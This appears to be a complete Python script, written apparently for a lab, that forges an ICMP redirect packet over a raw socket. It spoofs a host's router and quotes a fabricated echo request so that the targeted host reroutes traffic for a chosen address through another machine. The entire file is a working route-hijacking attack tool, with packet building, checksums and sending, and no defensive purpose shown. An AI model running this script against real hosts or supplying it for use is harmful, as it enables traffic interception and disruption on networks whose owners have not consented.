# Copyright (c) 2026, Nostromo
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Runs on a lab host as root: tells another one, in the name of its router, that the way to an address leads elsewhere.

An ICMP redirect (RFC 792) that quotes an echo request of the host that is told. The arguments are the router, that host, the
address, the new router and the identifier of the request.
"""

from __future__ import annotations

import socket
import struct
import sys

router, told, address, new_router = map(socket.inet_aton, sys.argv[1:5])
identifier = int(sys.argv[5])
REDIRECT, FOR_THE_HOST, ECHO = 5, 1, 8


def checksum(data: bytes) -> int:
    """That of the internet's protocols (RFC 1071), of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source: bytes, destination: bytes, message: bytes) -> bytes:
    """An IPv4 packet that holds an ICMP message."""
    fields = (0x45, 0, 20 + len(message), 1, 0, 64, socket.IPPROTO_ICMP)
    sum_of_header = checksum(struct.pack("!BBHHHBBH4s4s", *fields, 0, source, destination))
    return struct.pack("!BBHHHBBH4s4s", *fields, sum_of_header, source, destination) + message


def icmp(kind: int, code: int, rest: bytes) -> bytes:
    """An ICMP message."""
    return struct.pack("!BBH", kind, code, checksum(struct.pack("!BBH", kind, code, 0) + rest)) + rest


quoted = packet(told, address, icmp(ECHO, 0, struct.pack("!HH", identifier, 0)))
message = packet(router, told, icmp(REDIRECT, FOR_THE_HOST, new_router + quoted))
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.sendto(message, (sys.argv[2], 0))
